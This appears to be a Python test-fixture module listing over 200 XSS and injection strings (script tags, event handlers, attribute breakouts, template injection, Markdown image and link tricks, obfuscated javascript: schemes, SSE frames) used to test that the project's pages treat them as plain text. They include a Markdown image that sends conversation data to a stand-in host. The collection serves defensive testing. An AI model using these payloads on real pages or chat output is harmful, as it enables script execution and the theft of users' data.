"""Texts that would run a script or fetch something if any page took them for more than text.

A script that runs calls `stoaRan`; whatever is fetched lies on `evil.example`.
    ALL      more than 200, for `make faults`
    SAMPLE   20 of every kind, for `make test`
"""

from collections.abc import Sequence

RUN = "stoaRan(1)"
EVIL = "//evil.example"

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={EVIL}/x.js></script>",
    f"<script type=module>import '{EVIL}/m.js'</script>",
    f"<script>{RUN}//",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x ONERROR='{RUN}'>",
    f"<img src='{EVIL}/a.png'>",
    f"<img srcset='{EVIL}/a.png 1x, {EVIL}/b.png 2x'>",
    f"<picture><source srcset={EVIL}/s.png><img></picture>",
    f"<input type=image src={EVIL}/i.png onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<textarea autofocus onfocus={RUN}>x</textarea>",
    f"<body onload={RUN}>",
    f"<body background={EVIL}/bg.png>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='{EVIL}/x.js'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text x=9 y=9>x</text></a></svg>",
    f"<svg><use href='{EVIL}/u.svg#x'/></svg>",
    f"<svg><image href='{EVIL}/i.png'/></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={EVIL}/f.html></iframe>",
    f"<frameset onload={RUN}><frame src={EVIL}></frameset>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    f"<object data={EVIL}/o.swf></object>",
    f"<embed src={EVIL}/e.swf>",
    f"<applet code=x codebase={EVIL}></applet>",
    f"<video poster={EVIL}/p.png><source onerror={RUN} src=x></video>",
    f"<audio src={EVIL}/a.ogg onerror={RUN} autoplay>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div style='background:url({EVIL}/d.png)'>x</div>",
    f"<div style='position:fixed;inset:0' onmouseover={RUN}>x</div>",
    f"<style>@import '{EVIL}/s.css';</style>",
    f"<style>*{{background:url({EVIL}/s.png)}}</style>",
    f"<link rel=stylesheet href={EVIL}/l.css>",
    f"<link rel=prefetch href={EVIL}/p>",
    f"<link rel=dns-prefetch href={EVIL}>",
    f"<link rel=preconnect href={EVIL}>",
    f"<link rel=icon href={EVIL}/i.ico>",
    f"<link rel=manifest href={EVIL}/m.json>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/r'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<form action={EVIL}/f><input name=a><button autofocus>x</button></form>",
    f"<form><button formaction='javascript:{RUN}'>x</button></form>",
    f"<a href={EVIL}/x ping={EVIL}/ping>x</a>",
    f"<a href='javascript:{RUN}' autofocus onfocus={RUN}>x</a>",
    f"<table background={EVIL}/t.png><tr><td background={EVIL}/c.png>x</table>",
    f"<bgsound src={EVIL}/b.mid>",
    f"<isindex action='javascript:{RUN}' type=image>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<x onclick={RUN} tabindex=1 id=x autofocus onfocus={RUN}>x</x>",
    f"<custom-element is=x onpointerenter={RUN}>x</custom-element>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<portal src={EVIL}/p></portal>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<p id='x' name='x'><p id=CONFIG><img name=getElementById src=x onerror={RUN}>",
    f"<form id=x></form><input form=x name=action value={EVIL}>",
    f"<div hx-get='{EVIL}/hx' hx-trigger='load'>x</div>",
    f"<div hx-on:load='{RUN}' hx-trigger='load'>x</div>",
    f"<div data-hx-get='/account' data-hx-trigger='load' data-hx-vals='js:{{a:{RUN}}}'>x</div>",
    f"<article class='answer' aria-busy='true' data-events='{EVIL}/events'>x</article>",
    f"<div data-source='\"]),*' class='cite'><a data-source='x'>x</a></div>{RUN}",
)
ATTRIBUTES = (
    f'" onmouseover="{RUN}',
    f'" autofocus onfocus="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" style="background:url({EVIL}/a)',
    f'"/><svg/onload={RUN}>',
    f"` onerror={RUN} `",
    f'x" srcset="{EVIL}/a.png',
    f'x" http-equiv="refresh" content="0;url={EVIL}',
    f'" hx-get="{EVIL}" hx-trigger="load',
    f'" data-events="{EVIL}" aria-busy="true',
    f"&quot; onfocus=&quot;{RUN}",
    f"&#34;&#62;&#60;img src=x onerror={RUN}&#62;",
    f"\\u0022\\u003e\\u003cimg src=x onerror={RUN}\\u003e",
    f'\u201d onfocus="{RUN}',
    f'\x00"><img src=x onerror={RUN}>',
    f'"\r\n<img src=x onerror={RUN}>',
    f'name"; filename="x.html"\r\n\r\n<script>{RUN}</script>',
)
TEMPLATES = (
    "{{7*7}}{{config}}{{''.__class__.__mro__}}",
    "{% import os %}{{ os.system('x') }}",
    f"${{{RUN}}}",
    f"#{{{RUN}}} <%= {RUN} %>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "%(name)s %s %n {0} {name!r}",
    f"</script><!--{{{{<img src=x onerror={RUN}>}}}}",
)
FENCES = (
    f'```mermaid\ngraph TD; A["<img src=x onerror={RUN}>"]\nclick A href "javascript:{RUN}"\n```',
    f"```mermaid\n%%{{init: {{'securityLevel': 'loose'}}}}%%\n click A call {RUN}\n```",
    f"```svg\n<svg onload={RUN}></svg>\n```",
    f"```html\n<script>{RUN}</script>\n```",
    f"```math\n\\href{{javascript:{RUN}}}{{x}}\n```",
    f'```" onmouseover="{RUN}\nx\n```',
    f"```<img/src=x/onerror={RUN}>\nx\n```",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$$\\includegraphics{{https:{EVIL}/k.png}}$$",
    f"$\\htmlData{{x=<img src=x onerror={RUN}>}}{{y}}$",
    f"\\(\\unicode{{<img src=x onerror={RUN}>}}\\)",
    f'~~~echarts\n{{"tooltip": {{"formatter": "<img src=x onerror={RUN}>"}}}}\n~~~',
    f"`<img src=x onerror={RUN}>`",
    f"``\n<img src=x onerror={RUN}>\n``",
    f"    <script>{RUN}</script>",
)
PICTURES = (
    f"![x](https:{EVIL}/a.png)",
    f"![x](http:{EVIL}/a.png)",
    f"![x]({EVIL}/a.png)",
    f"![x][r]\n\n[r]: https:{EVIL}/r.png",
    f"![r]\n\n[r]: https:{EVIL}/r.png",
    f'![x](<https:{EVIL}/a.png> "t")',
    f'!["onerror={RUN} x="](x)',
    f"![<img src=x onerror={RUN}>](https:{EVIL}/a.png)",
    f"[![x](https:{EVIL}/in.png)](https:{EVIL}/out)",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"![x](https:{EVIL}/a.png?data=secret&b={{conversation}})",
    f"![x](\nhttps:{EVIL}/a.png)",
    f"!\\[x](https:{EVIL}/a.png) ![x] (https:{EVIL}/b.png)",
    f"| ![x](https:{EVIL}/t.png) | <img src={EVIL}/u.png> |\n|---|---|\n| a | b |",
)
LINKS = (
    f"<https:{EVIL}/auto>",
    f"https:{EVIL}/bare www.evil.example",
    f'[x](https:{EVIL} "onmouseover={RUN}")',
    f"[x](https:{EVIL} '\"><img src=x onerror={RUN}>')",
    f'[x](<https:{EVIL}/" onclick="{RUN}>)',
    f'[x][y]\n\n[y]: javascript:{RUN} "title"',
    f"[javascript:{RUN}]\n\n[javascript:{RUN}]: javascript:{RUN}",
    f"[a](https:{EVIL})[b](javascript:{RUN})[c](data:text/html,<script>{RUN}</script>)",
    f"[<img src=x onerror={RUN}>](https:{EVIL})",
    f"[x](https:{EVIL}/\u202egnp.exe) \u202e[y](https:{EVIL})",
    "[x](https://\u0430pple.example/) [y](https://user:pass@evil.example/)",
    f'[x](#source-1" onclick="{RUN})',
    f'[1](#"><script>{RUN}</script>) [2] [3]',
    f"<javascript:{RUN}>",
    f'<a@evil.example"onmouseover={RUN}>',
    f"# <svg onload={RUN}>\n\n> <img src=x onerror={RUN}>\n\n- <script>{RUN}</script>",
    f"a | b\n--- | ---\n<script>{RUN}</script> | [x](javascript:{RUN})",
    f'\ue0001\ue001"><img src=x onerror={RUN}>\ue0002\ue001',
    f"*<b onclick={RUN}>**x</b>***\\<script>{RUN}</script>",
)
_SPELLED = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:",
    " javascript:", "javascript&colon;", "javascript&#58;", "&#106;avascript:",
    "&#x6A;avascript&#x3A;", "javascript%3A", "%6Aavascript:", "vbscript:", "livescript:",
    "data:text/html,<script>", "data:text/html;base64,c3RvYVJhbigxKQ==,",
    "data:image/svg+xml,<svg/onload=stoaRan(1)>", "view-source:javascript:", "feed:javascript:",
    "blob:https://x/javascript:", "filesystem:javascript:", "jar:javascript:",
)  # fmt: skip
SCHEMES = tuple(
    form.format(f"{spelled}{RUN}")
    for spelled in _SPELLED
    for form in ("[x]({})", "[x](<{}>)", "<{}>", "[x][r]\n\n[r]: {}")
)
EVENTS = (
    f"event: message\ndata: <img src=x onerror={RUN}>\n\n",
    f'\n\nevent: failed\ndata: "<script>{RUN}</script>"\n\n',
    f'\r\n\r\nevent: message\r\ndata: "<article><img src=x onerror={RUN}></article>"\r\n\r\n',
    f"data: [DONE]\n\ndata: <script>{RUN}</script>",
    f"id: 999999\nretry: 1\nevent: execute\ndata: {RUN}\n\n",
    f"\u2028event: message\u2029data: {RUN}\x85",
    f'}}]}}\n\n{{"type":"execute","code":"{RUN}"}}',
    f"</script><script>{RUN}</script>\x00\x1b]0;x\x07",
)

ALL = (
    *ELEMENTS, *ATTRIBUTES, *TEMPLATES, *FENCES, *PICTURES, *LINKS, *SCHEMES, *EVENTS,
)  # fmt: skip
SAMPLE = (
    ELEMENTS[0], ELEMENTS[9], ELEMENTS[16], ELEMENTS[28], ELEMENTS[38], ELEMENTS[65], ELEMENTS[84],
    ATTRIBUTES[1], ATTRIBUTES[3], ATTRIBUTES[6], TEMPLATES[6], FENCES[0], FENCES[5], PICTURES[0],
    PICTURES[3], PICTURES[6], LINKS[2], LINKS[17], SCHEMES[0], EVENTS[2],
)  # fmt: skip

LONGEST_NAME = 256


def groups(texts: Sequence[str], longest: int = LONGEST_NAME) -> list[str]:
    """The texts, as many in one as a name may hold: fewer pages to visit."""
    found: list[str] = []
    for text in texts:
        if found and len(found[-1]) + len(text) + 2 <= longest:
            found[-1] = f"{found[-1]}\n\n{text}"
        else:
            found.append(text)
    return found
